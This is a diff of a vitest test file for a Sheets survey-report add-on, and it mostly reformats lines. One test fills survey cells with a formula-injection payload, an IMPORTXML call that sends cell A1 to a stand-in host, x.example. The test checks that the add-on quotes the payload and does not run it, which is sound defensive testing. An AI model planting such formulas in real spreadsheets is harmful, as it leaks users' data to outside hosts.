@@ -4,11 +4,11 @@
  * real RS256 ID tokens checked against a JWKS this test serves.
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { type LocalWorker, startLocalWorker } from '../../cli/index'
 import { insertExamples } from '../../addon/src/server/examples'
 import { about, onOpen } from '../../addon/src/server/menu'
 import { regenerate } from '../../addon/src/server/regenerate'
 import { sidebarLoad, sidebarSave } from '../../addon/src/server/sidebar'
+import { type LocalWorker, startLocalWorker } from '../../cli/index'
 import { type Cell, displayValue, type Report, type TableId, type Value } from '../../engine/index'
 import { METADATA_KEY } from '../../sheets/index'
 import { SyncHttp } from './apps-script/sync-http'
@@ -53,7 +53,10 @@ function open(values: Cell[][], options: { tables?: TableId[]; locale?: string }
     locale: options.locale,
   })
   fake.addSheet(RESPONSES, values)
-  fake.addSheet(NAMESAKE, [['My own ranking', 'Note'], [1, '=do not parse me']])
+  fake.addSheet(NAMESAKE, [
+    ['My own ranking', 'Note'],
+    [1, '=do not parse me'],
+  ])
   fake.addSheet('Notes', [['Sapa', 'is', 'a', 'guest']], [{ key: 'someone.else', value: 'keep' }])
   const app = fake.app()
   const state = sidebarLoad(app)
@@ -87,7 +90,9 @@ function expectedGrid(reply: Report, table: TableId): Value[][] {
   return [
     source.columns.map((c) => c.label),
     ...rows.map((row) =>
-      source.columns.map((c) => cell(displayValue(c.key, row[c.key] ?? null, reply.summary.locale))),
+      source.columns.map((c) =>
+        cell(displayValue(c.key, row[c.key] ?? null, reply.summary.locale)),
+      ),
     ),
   ]
 }
@@ -131,7 +136,9 @@ describe('Regenerate report on the 9,517-row sample', () => {
       const distinct = new Set(rows.map((row) => (row[c] as Date | '').valueOf?.()))
       distinct.delete(undefined)
       // Counted another way: distinct time values of the grid (blanks are codes -1).
-      const times = new Set(rows.flatMap((row) => (row[c] instanceof Date ? [row[c].getTime()] : [])))
+      const times = new Set(
+        rows.flatMap((row) => (row[c] instanceof Date ? [row[c].getTime()] : [])),
+      )
       expect(body.columns[c].dict).toHaveLength(times.size)
       expect(times.size).toBeLessThan(rows.length / 10)
     }
@@ -140,7 +147,10 @@ describe('Regenerate report on the 9,517-row sample', () => {
   it('writes every table as the Worker computed it, the Issues sheet last', () => {
     const sheets = reportSheets(fake)
     const tables = sheets.map((s) => s.model?.table)
-    expect(tables).toEqual([...first.tables.map((t) => t.id).filter((id) => id !== 'issues'), 'issues'])
+    expect(tables).toEqual([
+      ...first.tables.map((t) => t.id).filter((id) => id !== 'issues'),
+      'issues',
+    ])
     for (const sheet of sheets) {
       if (sheet.model?.table === 'issues') continue
       const expected = expectedGrid(first, sheet.model?.table as TableId)
@@ -182,7 +192,10 @@ describe('A failure leaves the previous report as it was, and says why', () => {
     fake.dialogs.length = 0
     regenerate(fake.app())
     expect(fake.dialogs).toEqual([
-      { title: expect.stringMatching(dialog.title), message: expect.stringMatching(dialog.message) },
+      {
+        title: expect.stringMatching(dialog.title),
+        message: expect.stringMatching(dialog.message),
+      },
     ])
     expect(JSON.stringify(fake.sheets)).toEqual(before)
     expect(fake.lockHeld).toBe(false)
@@ -324,8 +337,14 @@ describe('About and Insert formula examples', () => {
     about(fake.app())
     about(fake.app())
     expect(fake.dialogs).toEqual([
-      { title: 'Sapa туралы', message: `Қондырманың қозғалтқышы 0.1.0\nWorker ${WORKER}: қозғалтқыш 0.1.0` },
-      { title: 'Sapa туралы', message: `Қондырманың қозғалтқышы 0.1.0\nWorker ${WORKER}: қозғалтқыш 0.1.0` },
+      {
+        title: 'Sapa туралы',
+        message: `Қондырманың қозғалтқышы 0.1.0\nWorker ${WORKER}: қозғалтқыш 0.1.0`,
+      },
+      {
+        title: 'Sapa туралы',
+        message: `Қондырманың қозғалтқышы 0.1.0\nWorker ${WORKER}: қозғалтқыш 0.1.0`,
+      },
     ])
     expect(fake.exchanges.map((e) => e.url)).toEqual([`${WORKER}/v1/health`])
   })
@@ -347,7 +366,18 @@ describe('About and Insert formula examples', () => {
     )
     expect(formulas.some((f) => /^=KEY_DRIVERS\(\{.*\}, .*, "kk"\)$/.test(f))).toBe(true)
     expect(formulas.at(-1)).toBe(`=RATING('${RESPONSES}'!D2:D, '${RESPONSES}'!J2:J, 30, "kk")`)
-    const ours = new Set(['SATISFACTION', 'TOP2BOX', 'MEAN_SCORE', 'SCORE10', 'RESPONDENTS', 'DISTRIBUTION', 'SATISFACTION_CI', 'SOCIAL_CONCERN', 'KEY_DRIVERS', 'RATING'])
+    const ours = new Set([
+      'SATISFACTION',
+      'TOP2BOX',
+      'MEAN_SCORE',
+      'SCORE10',
+      'RESPONDENTS',
+      'DISTRIBUTION',
+      'SATISFACTION_CI',
+      'SOCIAL_CONCERN',
+      'KEY_DRIVERS',
+      'RATING',
+    ])
     for (const formula of formulas) {
       // Every NAME( outside quoted text: the add-on's, or a Sheets built-in (FILTER).
       const code = formula.replace(/"(?:[^"]|"")*"/g, '""').replace(/'(?:[^']|'')*'!/g, '')
@@ -362,11 +392,14 @@ describe('About and Insert formula examples', () => {
     const values = sample.slice(0, 300).map((row) => [...row])
     const channel = values[0].indexOf('Қызмет алынған орын')
     expect(channel).toBeGreaterThan(0)
-    for (let r = 1; r < values.length; r++) values[r][channel] = '=IMPORTXML("https://x.example/?"&A1, "//a")'
+    for (let r = 1; r < values.length; r++)
+      values[r][channel] = '=IMPORTXML("https://x.example/?"&A1, "//a")'
     const { fake } = open(values)
     insertExamples(fake.app())
     const rows = fake.sheets.find((s) => s.examples)?.examples?.rows ?? []
-    expect(rows.map((r) => r.label)).toContain('Қанағаттанушылық: =IMPORTXML("https://x.example/?"&A1, "//a")')
+    expect(rows.map((r) => r.label)).toContain(
+      'Қанағаттанушылық: =IMPORTXML("https://x.example/?"&A1, "//a")',
+    )
     expect(rows.map((r) => r.formula)).toContain(
       `=SATISFACTION(FILTER('${RESPONSES}'!J2:J, '${RESPONSES}'!G2:G="=IMPORTXML(""https://x.example/?""&A1, ""//a"")"))`,
     )
